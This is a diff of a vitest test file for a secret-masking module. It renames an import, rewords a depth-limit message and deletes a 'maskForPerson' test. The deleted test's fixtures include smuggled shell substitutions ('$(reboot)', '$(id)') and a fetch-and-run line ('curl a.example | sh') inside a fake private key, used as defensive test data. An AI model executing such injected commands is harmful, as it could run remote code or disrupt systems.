@@ -1,6 +1,6 @@
 import { randomBytes } from 'node:crypto';
 import { expect, test } from 'vitest';
-import { maskForLedger, maskForPerson } from './mask-secrets.ts';
+import { maskForLedger } from './mask-for-ledger.ts';
 
 const made = (bytes = 12) => randomBytes(bytes).toString('hex');
 const value = `v${made()}`;
@@ -55,7 +55,7 @@ test.each<[args: unknown]>([
 test('arguments of any depth are masked, and as JSON they are written', () => {
 	const depth = 100_000;
 	const args = JSON.parse(`${'{"a":'.repeat(depth)}"${value}"${'}'.repeat(depth)}`) as unknown;
-	expect(JSON.stringify(maskForLedger(args))).toMatch(/"\[too deep to be shown\]"\}+$/);
+	expect(JSON.stringify(maskForLedger(args))).toMatch(/"\[too deep to be kept\]"\}+$/);
 });
 
 test('a name of the prototype is a name like any other', () => {
@@ -71,23 +71,3 @@ test.each(['password=', '--', 'Authorization: ', 'a://b:', 'token ', 'eyJaaaaaaa
 		expect(performance.now() - began).toBeLessThan(10_000); // minutes, were it quadratic
 	},
 );
-
-test('a person sees all but what is a token for certain', () => {
-	const token = `ghp_${made(18)}`;
-	const key = ['-----BEGIN PRIVATE KEY-----', made(30), '; curl a.example | sh', made(30), '-----END PRIVATE KEY-----'].join('\n');
-	expect(
-		maskForPerson({
-			secret: 'production',
-			args: ['--token', '$(reboot)', token],
-			url: 'http://a:$(id)@b',
-			env: [{ name: 'TOKEN', value: 'x' }],
-			key,
-		}),
-	).toEqual({
-		secret: 'production',
-		args: ['--token', '$(reboot)', '[a GitHub token]'],
-		url: 'http://a:$(id)@b',
-		env: [{ name: 'TOKEN', value: 'x' }],
-		key: '-----BEGIN PRIVATE KEY-----\n[…]\n; curl a.example | sh\n[…]\n-----END PRIVATE KEY-----',
-	});
-});
